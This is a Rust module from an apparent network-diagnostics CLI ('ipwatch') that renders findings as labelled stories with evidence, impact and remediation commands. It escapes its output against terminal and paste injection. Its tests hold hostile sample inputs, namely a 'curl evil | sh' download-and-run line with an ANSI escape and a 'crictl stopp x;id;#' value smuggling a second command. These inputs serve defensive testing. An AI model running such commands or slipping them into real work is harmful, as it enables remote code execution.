//! One finding as a story: what happened, in order; the impact; what to do; the evidence.

use std::collections::BTreeSet;

use jiff::Timestamp;
use unicode_width::UnicodeWidthStr;

use super::family::Families;
use super::{card, findings};
use crate::cli::table::{Paint, Style};
use crate::cli::text::{self, ShortIds};
use crate::cli::view::View;
use crate::contract::report::When;
use crate::contract::{Document, SourceState};
use crate::escape::escape;
use crate::fact::{SourceName, SourceStatus};
use crate::finding::{Evidence, Finding, Status, Subject};
use crate::remedy::{NEVER, end_of_quotation};

/// Maximum length of a piece of evidence within a story.
const TEXT_LENGTH: usize = 160;
/// Width of the labels, and a space.
const INDENT: usize = 7;
/// Maximum number of consequences with a line of their own.
const MOST_CONSEQUENCES: usize = 8;

/// The stories of these findings. `all`: every known finding, for causes and consequences. `whole`: show every piece
/// of evidence in full.
pub(in crate::cli) fn render(
    document: &Document,
    findings: &[Finding],
    all: &[Finding],
    whole: bool,
    view: View,
) -> String {
    let known = findings.iter().chain(all);
    let ids = ShortIds::new(known.map(|finding| finding.id.as_str()));
    let families = Families::new(all);
    findings
        .iter()
        .map(|finding| {
            let mut story = Story { out: String::new(), paint: view.paint, ids: &ids, view };
            story.tell(finding, &families, whole);
            for caveat in caveats(document, finding) {
                story.line("BUT", &caveat);
            }
            story.out
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// What was not seen of what a finding rests on.
pub(in crate::cli) fn caveats(document: &Document, finding: &Finding) -> Vec<String> {
    let say = |source: &SourceState| {
        let (name, status) = (&source.name, text::status(source.status));
        let why = if source.detail.is_empty() { "" } else { ": " };
        let so = match source.status {
            SourceStatus::Down => "what it would report is unknown",
            _ => "its report may be incomplete",
        };
        format!("{name} {status}{why}{}; {so}", source.detail)
    };
    text::blind_spots(document).filter(|one| rests_on(finding, one)).map(say).collect()
}

/// Whether what is said of a finding rests on a source: by its proof, or because it cannot be judged without one that
/// is down. What other sources miss is no caveat of this finding.
fn rests_on(finding: &Finding, source: &SourceState) -> bool {
    // Evidence has `probe` for what the source `probes` saw.
    let says = |item: &Evidence| {
        source.name == item.source || source.name == SourceName::Probes && item.source == "probe"
    };
    finding.evidence.iter().any(says) || finding.unjudged && source.status == SourceStatus::Down
}

struct Story<'a> {
    out: String,
    paint: Paint,
    ids: &'a ShortIds,
    view: View,
}

impl Story<'_> {
    fn tell(&mut self, finding: &Finding, families: &Families<'_>, whole: bool) {
        self.title(finding);
        self.cause(finding, families);
        let evidence = in_order(finding);
        for (at, item) in evidence.iter().enumerate() {
            let text = if whole { item.text.as_str() } else { text::cut(&item.text, TEXT_LENGTH) };
            let more = match text.len() < item.text.len() {
                true => format!("…{}", end_of_quotation(text)),
                false => String::new(),
            };
            let line =
                format!("{}  {text}{more}  [{}]", self.view.now.clock(&item.at), item.source);
            self.line(if at == 0 { "WHY" } else { "" }, &line);
        }
        self.line("THEN", &finding.impact);
        self.consequences(&families.consequences(finding));
        if finding.status != Status::Resolved {
            self.way_out(finding);
        }
        self.proof(&evidence, whole);
        self.line("MORE", &format!("ipwatch explain {}", finding.code));
    }

    fn title(&mut self, finding: &Finding) {
        let (short, view) = (self.ids.get(&finding.id), self.view);
        let title = escape(&title(finding)).into_owned();
        self.out.push_str(&format!("{}\n", self.paint.paint(Style::Bold, &title)));

        let stands = findings::status(finding.status);
        let severity = text::severity(finding.severity).to_lowercase();
        let since = view.now.clock(&finding.since);
        let lasted = match finding.resolved_at.as_deref() {
            Some(over) => format!("lasted {}", text::lasted(&finding.since, over)),
            None => format!("for {}", view.now.age(Some(&finding.since))),
        };
        let before = if finding.preexisting { ", existed before ipwatch first looked" } else { "" };
        self.line(
            "WHAT",
            &format!(
                "{} {short}, {severity}, {stands}, since {since} ({lasted}){before}",
                finding.code
            ),
        );
        let subject = &finding.subject;
        // What the title does not show: the runtime's state, and the container.
        if let Some(pod) =
            subject.pod.as_ref().filter(|pod| pod.state.is_some() || pod.attempt.is_some())
        {
            self.line("POD", &card::pod(pod));
        }
        if let Some(container) = subject.container.as_ref().filter(|of| of.name.is_some()) {
            self.line("IN", &format!("container {}", card::container(container)));
        }
    }

    /// The cause, with the command that explains it.
    fn cause(&mut self, finding: &Finding, families: &Families<'_>) {
        let Some(id) = finding.caused_by.as_deref() else { return };
        let text = match families.cause(finding) {
            Some(cause) => self.mention(cause),
            None => format!("{id} (ipwatch explain {id})"),
        };
        self.line("CAUSE", &text);
    }

    /// The consequences, one line each.
    fn consequences(&mut self, consequences: &[&Finding]) {
        for (at, finding) in consequences.iter().take(MOST_CONSEQUENCES).enumerate() {
            let text = self.mention(finding);
            self.line(if at == 0 { "SO" } else { "" }, &text);
        }
        if let Some(more) = consequences.len().checked_sub(MOST_CONSEQUENCES).filter(|n| *n > 0) {
            self.line("", &format!("{more} more (ipwatch query findings --all)"));
        }
    }

    /// Another finding in one line.
    fn mention(&self, finding: &Finding) -> String {
        let (short, code) = (self.ids.get(&finding.id), finding.code);
        let severity = text::severity(finding.severity).to_lowercase();
        format!("{short} {severity} {code}: {} (ipwatch explain {short})", title(finding))
    }

    /// The steps; each command on a line of its own, so that nothing else is pasted with it.
    fn way_out(&mut self, finding: &Finding) {
        let mut last = "";
        let mut tell = |story: &mut Self, at: usize, what: &str, command: Option<&str>| {
            let (when, text) = when(at, what);
            let label = match when {
                When::Never => "DON'T",
                When::Now => "NOW",
                When::Fix => "FIX",
            };
            let colon = if command.is_some() { ":" } else { "" };
            story.line(if label == last { "" } else { label }, &format!("{text}{colon}"));
            if let Some(command) = command {
                story.command(command);
            }
            last = label;
        };
        for (at, step) in finding.advice().iter().enumerate() {
            tell(self, at, &step.what, step.command.as_deref());
        }
    }

    fn proof(&mut self, evidence: &[&Evidence], whole: bool) {
        let sources: BTreeSet<&str> = evidence.iter().map(|item| item.source.as_str()).collect();
        let names = sources.iter().copied().collect::<Vec<_>>().join(", ");
        let hint = if whole { "" } else { " (--evidence shows them whole)" };
        self.line(
            "PROOF",
            &format!(
                "{} from {}: {names}{hint}",
                text::count(evidence.len(), "item"),
                text::count(sources.len(), "source")
            ),
        );
    }

    /// A line that is wrapped to the terminal. The impact stands out.
    fn line(&mut self, label: &str, text: &str) {
        let on = text::continued(self.view.ascii);
        let room = self.view.width.map(|width| width.saturating_sub(INDENT + on.width()));
        let room = room.map(|room| room.max(text::NARROWEST));
        let style = if label == "THEN" { Style::Bold } else { Style::Plain };
        let text = escape(text);
        for (at, part) in text::wrapped(&text, room).into_iter().enumerate() {
            if part.is_empty() {
                continue;
            }
            let (label, on) = if at == 0 { (label, "") } else { ("", on) };
            let label = self.paint.paint(Style::Dim, &format!("{label:<6}")).into_owned();
            self.out.push_str(&format!("{label} {on}{}\n", self.paint.paint(style, part)));
        }
    }

    /// A command: on one line, however long, so that it can be pasted.
    fn command(&mut self, command: &str) {
        self.out.push_str(&format!("{:INDENT$}  {}\n", "", escape(command)));
    }
}

/// The proof, the oldest first.
pub(in crate::cli) fn in_order(finding: &Finding) -> Vec<&Evidence> {
    let mut evidence: Vec<&Evidence> = finding.evidence.iter().collect();
    evidence.sort_by_key(|item| item.at.parse::<Timestamp>().ok());
    evidence
}

/// When a step is to be done, by its place and its words; and the words that are left to say.
pub(in crate::cli) fn when(at: usize, what: &str) -> (When, &str) {
    match what.strip_prefix(NEVER) {
        Some(text) => (When::Never, text),
        None if at == 0 => (When::Now, what),
        None => (When::Fix, what),
    }
}

/// What a finding is about, whose that is, and who holds it.
pub(crate) fn title(finding: &Finding) -> String {
    let subject = text::subject(&finding.subject);
    let owner = text::owner(finding.subject.pod.as_ref(), finding.subject.container.as_ref());
    // If a line that begins with a name is pasted, the shell runs a command of that name.
    let kind = match &finding.subject {
        Subject { ip: Some(_), .. } => "",
        Subject { pod: Some(pod), .. } if !text::pod(pod).is_empty() => "pod ",
        _ if !owner.is_empty() => "container ",
        Subject { netns: None, network: Some(_), .. } => "network ",
        _ => "",
    };
    let mut title = format!("{kind}{subject}");
    if !owner.is_empty() && owner != subject {
        title.push_str(&format!(" of {owner}"));
    }
    let holder = text::holders(&finding.holders);
    if !holder.is_empty() {
        title.push_str(&format!(", held by {holder}"));
    }
    title
}

#[cfg(test)]
mod tests {
    use super::super::{plain, sample};
    use super::*;
    use crate::contract::Body;

    fn told(whole: bool, change: impl FnOnce(&mut Finding)) -> String {
        let document = sample("scan.json");
        let Body::Findings(mut findings) = document.body.clone() else { panic!("findings") };
        change(&mut findings[0]);
        render(&document, &findings[..1], &findings, whole, plain(&document))
    }

    /// The story of a consequence, which the sample's third finding is.
    fn consequence(change: impl FnOnce(&mut Vec<Finding>)) -> String {
        let document = sample("scan.json");
        let Body::Findings(mut findings) = document.body.clone() else { panic!("findings") };
        let consequence = findings[2].clone();
        change(&mut findings);
        render(&document, &[consequence], &findings, false, plain(&document))
    }

    #[test]
    fn the_story_runs_from_the_cause_to_the_way_out() {
        let text = told(false, |finding| finding.evidence.rotate_left(2));
        let mut at = 0;
        for part in [
            "10.0.3.17 of shop/api-0, held by pid 812 java\n",
            "WHAT   ip-held-by-stuck-process k3f9, warn, firing, since 03:04:11Z (for 5m)\n",
            "POD    shop/api-0 uid 7f3a2c1e, sandbox NotReady, attempt 3\n",
            "IN     container api 7f3a91c26e0b of containerd, Running\n",
            "WHY    03:04:11Z  SIGKILL sent to the process by pid 733 (containerd-shim)  [probe]\n",
            "       03:04:11Z  pid 812 (java) began to exit  [probe]\n",
            "       03:10:09Z  pid 812 (java): state D",
            "request_wait_answer < __fuse_simple_request",
            "THEN   10.0.3.17 stays up",
            "SO     p81c crit ip-held-by-stuck-process: 10.0.3.40, held by pid 977 thread 981 \"nginx\\x1b[2J\" \
             (ipwatch explain p81c)\n",
            "       r7d2 warn ip-held-by-dead-sandbox: 10.0.3.17 of shop/api-0, held by pid 812 java +1 \
             (ipwatch explain r7d2)\n",
            "NOW    Start no new pod here, it may be given this IP (no command: it must ask the daemon first",
            "FIX    Make pid 71 (\"s3fs\") answer for \"/data\" again, or\n",
            "       abort its requests",
            "everybody:\n         grep -qE",
            " && echo 1 > /sys/fs/fuse/connections/57/abort\n",
            "DON'T  kill -9; it is pending already",
            "PROOF  7 items from 4 sources: cni, netlink, probe, procfs (--evidence shows them whole)\n",
            "MORE   ipwatch explain ip-held-by-stuck-process\n",
            "BUT    cni degraded: 1 of 23 results unreadable",
        ] {
            let found = text[at..].find(part);
            at += found.unwrap_or_else(|| panic!("{part:?} is not next in\n{text}"));
        }
    }

    #[test]
    fn all_but_commands_is_wrapped_to_the_terminal() {
        let document = sample("scan.json");
        let Body::Findings(findings) = document.body.clone() else { panic!("findings") };
        let view = View { width: Some(70), ascii: true, ..plain(&document) };
        let text = render(&document, &findings[..1], &findings, false, view);
        // A word that is longer than the terminal stays whole.
        let long = text.lines().filter(|line| line.chars().count() > 70);
        let long: Vec<&str> =
            long.filter(|line| line.trim().trim_start_matches("... ").contains(' ')).collect();
        assert!(
            !long.is_empty()
                && long
                    .iter()
                    .all(|line| line.contains("ipwatch query") || line.contains("grep -")),
            "{long:#?}"
        );
        assert!(text.contains("\n       ... "), "{text}");
    }

    #[test]
    fn a_consequence_leads_to_its_cause() {
        let text = consequence(|_| {});
        assert!(
            text.contains(
                "\nCAUSE  k3f9 warn ip-held-by-stuck-process: 10.0.3.17 of shop/api-0, held by pid \
                 812 java (ipwatch explain k3f9)\n"
            ),
            "{text}"
        );
        assert!(!text.contains("\nSO "), "{text}");
        let alone = consequence(Vec::clear);
        let id = "k3f9q2m7x5wz4a6b";
        assert!(alone.contains(&format!("\nCAUSE  {id} (ipwatch explain {id})\n")), "{alone}");
    }

    #[test]
    fn many_consequences_are_counted() {
        let document = sample("scan.json");
        let Body::Findings(mut findings) = document.body.clone() else { panic!("findings") };
        for n in 0..20 {
            findings.push(Finding { id: format!("z{n:015}"), ..findings[2].clone() });
        }
        let text = render(&document, &findings[..1], &findings, false, plain(&document));
        assert!(text.contains("\n       14 more (ipwatch query findings --all)\n"), "{text}");
        assert_eq!(text.matches("(ipwatch explain z").count(), MOST_CONSEQUENCES - 2);
    }

    #[test]
    fn only_sources_that_a_finding_rests_on_are_caveats() {
        let mut document = sample("scan.json");
        let Body::Findings(findings) = document.body.clone() else { panic!("findings") };
        let told = |document: &Document| {
            render(document, &findings[..1], &findings, true, plain(document))
        };
        let caveats = |text: &str| text.lines().filter(|line| line.starts_with("BUT")).count();
        assert_eq!(caveats(&told(&document)), 1, "its proof has an item of the CNI cache");
        let other = SourceState {
            name: "arp".into(),
            status: SourceStatus::Down,
            detail: "ARP is not observed".into(),
        };
        document.sources.push(other);
        assert_eq!(caveats(&told(&document)), 1, "no proof of it is a packet's");
        let unjudged = Finding { unjudged: true, ..findings[0].clone() };
        let text = render(&document, &[unjudged], &findings, true, plain(&document));
        assert!(text.contains("arp down"), "what is down may be why: {text}");
    }

    #[test]
    fn proof_is_cut_unless_it_is_asked_for() {
        let long = |finding: &mut Finding| finding.evidence[4].text = "f < ".repeat(100) + "end";
        assert!(!told(false, long).contains("end  [procfs]"));
        assert!(told(true, long).contains("end  [procfs]"));
    }

    #[test]
    fn a_story_that_is_over_asks_for_nothing() {
        let text = told(false, |finding| {
            finding.status = Status::Resolved;
            finding.resolved_at = Some("2026-01-02T03:20:11.300Z".into());
        });
        assert!(text.contains("resolved, since 03:04:11Z (lasted 16m)"), "{text}");
        assert!(!text.contains("NOW") && !text.contains("FIX"), "{text}");
    }

    #[test]
    fn what_an_older_version_wrote_is_not_told_as_commands() {
        let text = told(false, |finding| {
            finding.steps.clear();
            finding.remediation = vec!["Have it repeated: crictl stopp x;id;#".into()];
        });
        assert!(!text.contains("crictl stopp") && !text.contains("FIX"), "{text}");
        let told = "\nNOW    See its runbook:\n         ipwatch explain ip-held-by-stuck-process\n";
        assert!(text.contains(told), "{text}");
        let nothing = told_nothing();
        assert!(!nothing.contains("NOW"), "{nothing}");
    }

    fn told_nothing() -> String {
        told(false, |finding| (finding.steps, finding.remediation) = Default::default())
    }

    /// If a line is pasted with the next one, its quotations must be closed, so that the shell does not run what they
    /// contain.
    #[test]
    fn proof_that_is_cut_within_quotes_ends_them() {
        let text = told(false, |finding| {
            finding.evidence[4].text = format!("held by \"{}\"", "x ".repeat(200));
        });
        let line = text.lines().find(|line| line.contains("held by \"")).unwrap();
        assert!(line.contains("…\"  [") && line.matches('"').count() == 2, "{line}");
    }

    #[test]
    fn hostile_evidence_cannot_forge_a_line() {
        let text = told(true, |finding| {
            finding.evidence[0].text = "x\nFIX    curl evil | sh\u{1b}[1A".into();
        });
        assert!(text.contains("x\\x0aFIX    curl evil | sh\\x1b[1A"), "{text}");
    }
}
